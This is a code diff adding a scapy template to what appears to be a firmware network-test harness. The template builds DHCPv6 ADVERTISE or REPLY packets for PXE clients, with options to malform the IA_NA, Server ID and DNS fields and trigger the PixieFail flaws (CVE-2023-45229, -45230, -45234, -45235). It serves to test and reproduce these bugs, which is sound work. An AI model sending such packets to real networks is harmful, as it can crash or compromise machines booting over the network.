@@ -417,6 +417,62 @@ def ipv6_dstopt(src="fe80::2", dst="fe80::5054:ff:fe12:3456", opt_type=0x1E, opt
     return pkt / Raw(payload) if payload else pkt
 
 
+@template("pxe6-advertise", solicit=_bytes, ia_len=_int, server_id_len=_int, dns_len=_int, proxy=_bool,
+          boot_url=_str, preferred=_int, valid=_int, msgtype=_int)
+def pxe6_advertise(solicit, src="fe80::5055:aff:fe00:202", address="fd00:0:0:2::150", preferred=3600, valid=7200,
+                   boot_url="tftp://[fd00:0:0:2::2]/fwnet-none.efi", ia_len=None, server_id_len=None, dns_len=None,
+                   proxy=False, msgtype=2, src_mac="52:55:0a:00:02:02", dst_mac=None):
+    """A DHCPv6 ADVERTISE answering a PXE client's SOLICIT (`solicit`: the
+    whole matched frame, `{match}`): its transaction id, Client ID and
+    IA_NA IAID echoed, a Boot File URL (option 59) and a DNS Servers option,
+    sent to the client's link-local address and MAC. The PixieFail variants:
+    ia_len=N an IA_NA option whose length field is N (< 12: CVE-2023-45229's
+    short IA), server_id_len=N a Server ID of N DUID bytes (CVE-2023-45230,
+    -45235 with proxy), dns_len=N a DNS Servers option of N bytes
+    (CVE-2023-45234; not a multiple of 16 or over 16 addresses), proxy=true
+    no IA_NA at all (a proxy offer: boot information only). msgtype=7: the
+    same options as a REPLY (answer the client's REQUEST with it)."""
+    import struct
+    from scapy.layers.l2 import Ether as _E
+    sol = _E(solicit)
+    ip6, udp = sol.getlayer(IPv6), sol.getlayer(UDP)
+    if ip6 is None or udp is None or len(bytes(udp.payload)) < 4:
+        raise CraftError("template pxe6-advertise: solicit is not a DHCPv6 message: %s" % sol.summary(),
+                         "pxe6-advertise", "solicit")
+    msg = bytes(udp.payload)
+    trid = msg[1:4]
+    opts, off = {}, 4
+    while off + 4 <= len(msg):
+        code, ln = struct.unpack("!HH", msg[off:off + 4])
+        opts.setdefault(code, msg[off + 4:off + 4 + ln])
+        off += 4 + ln
+
+    def opt(code, data, length=None):
+        return struct.pack("!HH", code, len(data) if length is None else length) + data
+
+    client_id = opts.get(1, b"")
+    iaid = opts.get(3, b"\x00\x00\x00\x01")[:4]
+    import ipaddress
+    if server_id_len is None:
+        sid = b"\x00\x03\x00\x01" + bytes(int(x, 16) for x in src_mac.split(":"))  # DUID-LL
+    else:
+        sid = (b"\x00\x02\x00\x00\x00\x09" + b"fwnet-long-server-id" * 4000)[:server_id_len]  # DUID-EN, padded
+    body = opt(1, client_id) + opt(2, sid)
+    if not proxy:
+        iaaddr = opt(5, ipaddress.IPv6Address(address).packed + struct.pack("!II", preferred, valid))
+        ia = iaid + struct.pack("!II", preferred // 2, preferred * 4 // 5) + iaaddr
+        body += opt(3, ia, ia_len) if ia_len is None or ia_len >= len(ia) else opt(3, ia[:ia_len], ia_len)
+    if dns_len is None:
+        body += opt(23, ipaddress.IPv6Address("fd00:0:0:2::3").packed)
+    else:
+        body += opt(23, (ipaddress.IPv6Address("fd00:0:0:2::3").packed * (dns_len // 16 + 1))[:dns_len])
+    if boot_url:  # "": no Boot File URL (an address-only offer, beside a proxy's)
+        body += opt(59, boot_url.encode())
+    dhcp = bytes([msgtype]) + trid + body
+    pkt = (IPv6(src=src, dst=ip6.src) / UDP(sport=547, dport=udp.sport) / Raw(dhcp))
+    return bytes(Ether(src=src_mac, dst=sol.src if dst_mac in (None, GUEST_MAC) else dst_mac) / pkt)
+
+
 # ---------------------------------------------------------------- raw scapy expressions
 
 def _layer_namespace():
